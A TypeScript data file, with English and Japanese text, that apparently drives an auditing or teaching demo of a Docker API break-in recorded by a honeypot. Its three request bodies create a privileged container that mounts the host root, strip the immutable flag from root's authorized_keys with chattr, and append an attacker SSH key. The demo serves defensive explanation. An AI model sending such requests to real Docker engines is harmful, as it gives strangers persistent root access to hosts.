import type { LocalizedText } from "../base/index.ts";

/** One request of the attack, as the honeypot saw such ones: method, path, body. */
export interface DemoStep {
  readonly title: LocalizedText;
  readonly story: LocalizedText;
  readonly method: "POST";
  readonly path: string;
  readonly body: Readonly<Record<string, unknown>>;
  /** What the request creates or runs in is audited by this body. */
  readonly audited: "create" | "exec";
}

/** The body of the container that the attack creates: everything of the host under /mnt. */
export const DEMO_CREATE = {
  Image: "alpine:3.20",
  Cmd: ["sleep", "infinity"],
  HostConfig: { Privileged: true, Binds: ["/:/mnt"], NetworkMode: "host" },
} as const;

/**
 * The attack that Trend Micro's honeypot recorded on an open Docker API ("Why running a privileged container in Docker
 * is a bad idea", 2019), told in our words: the key is inert and the address is one of RFC 5737.
 */
export const DEMO_ATTACK: readonly DemoStep[] = [
  {
    title: { en: "A container is made", ja: "コンテナが作られる" },
    story: {
      en: "From 192.0.2.66 somebody finds an engine that listens on TCP without asking who is there, and asks it for a privileged container that sees the whole host under /mnt.",
      ja: "192.0.2.66 から来た何者かが、誰何せずに TCP で待ち受けるエンジンを見つけ、ホスト全体が /mnt に見える特権コンテナを求める。",
    },
    method: "POST",
    path: "/v1.41/containers/create",
    body: DEMO_CREATE,
    audited: "create",
  },
  {
    title: { en: "A lock is taken off", ja: "錠が外される" },
    story: {
      en: "In it they run chattr, which takes the immutable mark off the keys of the host's root. The request says Privileged: false. It does not matter: a process that is started in a container has what its container has.",
      ja: "その中で chattr を実行し、ホストの root の鍵から変更禁止の印を外す。要求には Privileged: false とある。しかし意味はない。コンテナ内で起動したプロセスは、そのコンテナが持つものをすべて持つ。",
    },
    method: "POST",
    path: "/v1.41/containers/8093cc36d94b/exec",
    body: { Privileged: false, Cmd: ["chattr", "-i", "-a", "/mnt/root/.ssh/authorized_keys"] },
    audited: "exec",
  },
  {
    title: { en: "A key is added", ja: "鍵が加えられる" },
    story: {
      en: "They write a key of their own. From now on they come in through the front door, as root, and the container is no longer needed.",
      ja: "自分の鍵を書き込む。これ以後は root として正面から入ってくる。コンテナはもう要らない。",
    },
    method: "POST",
    path: "/v1.41/containers/8093cc36d94b/exec",
    body: {
      Privileged: false,
      Cmd: ["sh", "-c", "echo 'ssh-ed25519 AAAAinert visitor@example.net' >> /mnt/root/.ssh/authorized_keys"],
    },
    audited: "exec",
  },
];
